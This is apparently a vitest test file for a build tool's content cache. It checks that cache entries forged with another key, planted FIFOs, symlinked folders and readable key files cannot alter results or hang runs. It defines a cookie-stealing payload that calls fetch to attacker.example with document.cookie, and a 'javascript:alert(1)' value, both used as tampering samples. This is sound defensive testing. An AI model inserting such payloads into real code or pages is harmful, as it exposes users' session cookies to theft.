/**
 * The content cache as untrusted input: whoever can write the cache folder (a CI cache shared
 * between branches) but not the user's key cannot change a result; build --check never asks the
 * cache; a parse stopped by a limit is not remembered; a cache folder that cannot be used means
 * no cache and one line on stderr, never a crash or a wait.
 */
import { randomBytes } from 'node:crypto'
import { spawnSync } from 'node:child_process'
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { openContentCache, writeEntry, type ContentCache } from '../../scripts/cache/store.ts'
import { bin, digests, frameworkWith, isRoot, NOBODY, onTestDay, TEST_TODAY, thresholds, withoutContacts } from '../helpers.ts'
import { HANG_MS } from '../limits.ts'

/** A project with the minimal framework, a package.json, and a key of its own (never the user's). */
function project(): { root: string; env: Record<string, string> } {
  const root = mkdtempSync(path.join(tmpdir(), 'thresholds-cache-safety-'))
  frameworkWith(undefined, 'minimal', root)
  writeFileSync(path.join(root, 'package.json'), '{ "private": true }\n')
  return { root, env: { ...onTestDay, THRESHOLDS_CACHE_KEY: path.join(root, 'config/thresholds/cache-key'), CACHE_DIR: '' } }
}

const layout = (root: string) => path.join(root, 'node_modules/.cache/thresholds/v1')

/** Every entry of a kind, as the cache holds it: key and stored value. */
function entries(root: string, kind: string): Array<{ key: string; value: unknown }> {
  const dir = path.join(layout(root), kind)
  return readdirSync(dir, { recursive: true, encoding: 'utf8' })
    .filter((name) => name.endsWith('.json'))
    .map((name) => {
      const text = readFileSync(path.join(dir, name), 'utf8')
      return { key: path.basename(name, '.json'), value: JSON.parse(text.slice(text.indexOf('\n') + 1)) as unknown }
    })
}

/** Rewrites entries as someone with write access to the cache folder could: signed with a key that is not the user's. */
function forge(root: string, kind: string, change: (value: unknown) => unknown, secret = randomBytes(32)): number {
  const cache: ContentCache = { dir: layout(root), tool: '', secret }
  const found = entries(root, kind)
  for (const { key, value } of found) writeEntry(cache, kind, key, change(value))
  return found.length
}

const userKey = (env: Record<string, string>) => Buffer.from(readFileSync(env.THRESHOLDS_CACHE_KEY as string, 'utf8').trim(), 'hex')
const EVIL = 'fetch("https://attacker.example/?" + document.cookie)\n'

describe('content cache entries someone else wrote', () => {
  it('cannot hide an error: a check entry without messages, signed with another key, is a miss', () => {
    const { root, env } = project()
    withoutContacts(path.join(root, 'sources/minimal'))
    expect(thresholds(['check'], root, { env }).status).toBe(1)
    expect(forge(root, 'check', (value) => ({ ...(value as object), messages: {} }))).toBe(1)
    const again = thresholds(['build'], root, { env })
    expect(again.status).toBe(1)
    expect(again.stderr).toContain('error Level “Early Help” has no contacts')
    expect(again.stderr).toContain('Nothing was written to generated/: fix the 1 error above first.\n')
  })

  it('cannot put code into generated/<id>/index.js: forged generated files and stamps are misses', () => {
    const { root, env } = project()
    expect(thresholds(['build', '--no-cache', '--out', 'fresh'], root, { env }).status).toBe(0)
    expect(thresholds(['build'], root, { env }).status).toBe(0)
    expect(forge(root, 'generated', (value) => ({ ...(value as object), 'minimal/index.js': EVIL }))).toBeGreaterThan(0)
    rmSync(path.join(layout(root), 'stamps'), { recursive: true })
    expect(thresholds(['build', '--out', 'after'], root, { env }).status).toBe(0)
    expect(readFileSync(path.join(root, 'after/minimal/index.js'), 'utf8')).not.toContain('attacker')
    expect(digests(path.join(root, 'after'))).toEqual(digests(path.join(root, 'fresh')))
  })

  it('checks a model read back against the schema, even one signed with the user’s key', () => {
    const { root, env } = project()
    expect(thresholds(['build', '--no-cache', '--out', 'fresh'], root, { env }).status).toBe(0)
    expect(thresholds(['build', '--out', 'first'], root, { env }).status).toBe(0)
    // Without generated entries the build reads the models; each one now fails the schema.
    rmSync(path.join(layout(root), 'generated'), { recursive: true })
    expect(forge(root, 'model', (value) => ({ ...(value as object), contacts: 'javascript:alert(1)' }), userKey(env))).toBe(1)
    const build = thresholds(['build', '--out', 'second'], root, { env })
    expect(build.status).toBe(0)
    expect(digests(path.join(root, 'second'))).toEqual(digests(path.join(root, 'fresh')))
  })

  it('build --check compares the real bytes, whatever the cache holds', () => {
    const { root, env } = project()
    expect(thresholds(['build'], root, { env }).status).toBe(0)
    // Even a cache that agrees with the tampered file (signed with the user's key) is not asked.
    writeFileSync(path.join(root, 'generated/minimal/index.js'), EVIL)
    forge(root, 'generated', (value) => ({ ...(value as object), 'minimal/index.js': EVIL }), userKey(env))
    const check = thresholds(['build', '--check'], root, { env })
    expect(check.status).toBe(1)
    expect(check.stderr).toContain('  differs: generated/minimal/index.js\n')
  })

  it('never waits on a pipe planted where an entry goes', () => {
    const { root, env } = project()
    expect(thresholds(['check'], root, { env }).status).toBe(0)
    const [check] = entries(root, 'check')
    const file = path.join(layout(root), 'check', (check?.key ?? '').slice(0, 2), `${check?.key}.json`)
    rmSync(file)
    expect(spawnSync('mkfifo', [file]).status).toBe(0)
    const run = thresholds(['check'], root, { env })
    expect(run.status).toBe(0)
    expect(run.stderr).toBe('✔ 0 errors, 0 warnings, 0 suppressed in 1 framework\n')
  })
})

describe('a parse stopped by a limit', () => {
  it('is not remembered: the next run with time to spare reads the file', () => {
    const { root, env } = project()
    const stopped = thresholds(['check'], root, { env: { ...env, THRESHOLDS_PARSE_SECONDS: '0' } })
    expect(stopped.status).toBe(1)
    expect(stopped.stderr).toContain('[parse-failed]')
    const next = thresholds(['check'], root, { env })
    expect(next.status).toBe(0)
    expect(next.stderr).toBe('✔ 0 errors, 0 warnings, 0 suppressed in 1 framework\n')
  })
})

describe('a cache folder that cannot be used', () => {
  const clean = '✔ 0 errors, 0 warnings, 0 suppressed in 1 framework\n'
  const cases: Array<[string, (root: string) => string, (root: string) => string]> = [
    ['a file', (root) => (writeFileSync(path.join(root, 'a-file'), 'not a folder\n'), path.join(root, 'a-file')), (root) => `CACHE_DIR “${path.join(root, 'a-file')}” is not a folder`],
    ['in a folder that does not exist', (root) => path.join(root, 'missing/cache'), (root) => `CACHE_DIR “${path.join(root, 'missing/cache')}” is in a folder that does not exist, expected an existing folder`],
    ['a symbolic link', (root) => (mkdirSync(path.join(root, 'elsewhere')), symlinkSync(path.join(root, 'elsewhere'), path.join(root, 'link')), path.join(root, 'link')), (root) => `CACHE_DIR “${path.join(root, 'link')}” is a symbolic link, expected a real folder`],
  ]

  it.each(cases)('CACHE_DIR %s: no cache, one warning, the same result, nothing made', (_, make, reason) => {
    const { root, env } = project()
    const dir = make(root)
    const before = digests(root)
    const run = thresholds(['check'], root, { env: { ...env, CACHE_DIR: dir } })
    expect(run.status).toBe(0)
    expect(run.stderr).toBe(`The content cache is not used: ${reason(root)}.\n${clean}`)
    // Nothing made: no cache, no key, no folder on the way to a missing one.
    expect(digests(root)).toEqual(before)
    expect(readdirSync(root)).not.toContain('missing')
  })

  it('CACHE_DIR that cannot be written: no cache, one warning, the same result', () => {
    const { root } = project()
    const readOnly = path.join(root, 'read-only')
    mkdirSync(readOnly)
    // Root can write anywhere: as root the run is made as the user nobody, who can read the project.
    const key = path.join(root, 'keys/cache-key')
    mkdirSync(path.dirname(key))
    for (const folder of [root, path.join(root, 'sources'), path.join(root, 'sources/minimal'), path.join(root, 'sources/minimal/levels'), path.join(root, 'sources/minimal/domains')]) chmodSync(folder, 0o755)
    chmodSync(path.dirname(key), 0o777)
    chmodSync(readOnly, 0o555)
    const result = spawnSync(process.execPath, [bin, 'check'], {
      cwd: root,
      encoding: 'utf8',
      env: { ...process.env, NO_COLOR: '1', THRESHOLDS_TODAY: TEST_TODAY, THRESHOLDS_CACHE_KEY: key, CACHE_DIR: readOnly },
      timeout: HANG_MS,
      killSignal: 'SIGKILL',
      ...(isRoot ? { uid: NOBODY, gid: NOBODY } : {}),
    })
    expect(result.status).toBe(0)
    expect(result.stderr).toBe(`The content cache is not used: CACHE_DIR “${readOnly}” cannot be written (permission denied).\n${clean}`)
    expect(readdirSync(readOnly)).toEqual([])
  })

  it('a thresholds folder in the cache that is a symbolic link: no cache, one warning', () => {
    const { root, env } = project()
    mkdirSync(path.join(root, 'node_modules/.cache'), { recursive: true })
    mkdirSync(path.join(root, 'elsewhere'))
    symlinkSync(path.join(root, 'elsewhere'), path.join(root, 'node_modules/.cache/thresholds'))
    const run = thresholds(['check'], root, { env })
    expect(run.stderr).toBe(`The content cache is not used: the folder ${path.join(root, 'node_modules/.cache/thresholds')} is a symbolic link, expected a real folder.\n${clean}`)
    expect(readdirSync(path.join(root, 'elsewhere'))).toEqual([])
  })

  it('a key others can read: no cache, one warning', () => {
    const { root, env } = project()
    const key = env.THRESHOLDS_CACHE_KEY as string
    mkdirSync(path.dirname(key), { recursive: true })
    writeFileSync(key, `${'ab'.repeat(32)}\n`, { mode: 0o644 })
    chmodSync(key, 0o644)
    const run = thresholds(['check'], root, { env })
    expect(run.stderr).toBe(`The content cache is not used: the key file ${key} can be read or written by other users (run: chmod 600 ${key}).\n${clean}`)
  })

  it('makes the user’s key once, readable by the user alone, outside the cache folder', () => {
    const { root, env } = project()
    const key = env.THRESHOLDS_CACHE_KEY as string
    expect(thresholds(['check'], root, { env }).stderr).toBe(clean)
    const first = readFileSync(key, 'utf8')
    expect(first).toMatch(/^[0-9a-f]{64}\n$/)
    expect(statSync(key).mode & 0o777).toBe(0o600)
    expect(thresholds(['check'], root, { env }).stderr).toBe(clean)
    expect(readFileSync(key, 'utf8')).toBe(first)
  })

  it('refuses a key inside the cache folder, in a folder whose name starts with two dots as in any other', () => {
    const { root, env } = project()
    const cacheDir = path.join(root, 'node_modules/.cache/thresholds')
    for (const key of [path.join(cacheDir, '..x/cache-key'), path.join(cacheDir, 'cache-key')]) {
      const opened = openContentCache(root, { ...env, THRESHOLDS_CACHE_KEY: key }, process.getuid?.())
      expect(opened).toEqual({ warning: `The content cache is not used: its key ${key} is inside the cache folder, expected it outside (THRESHOLDS_CACHE_KEY).` })
    }
    expect(openContentCache(root, { ...env, THRESHOLDS_CACHE_KEY: path.join(root, 'node_modules/.cache/thresholds-key') }, process.getuid?.()).warning).toBeUndefined()
  })
})
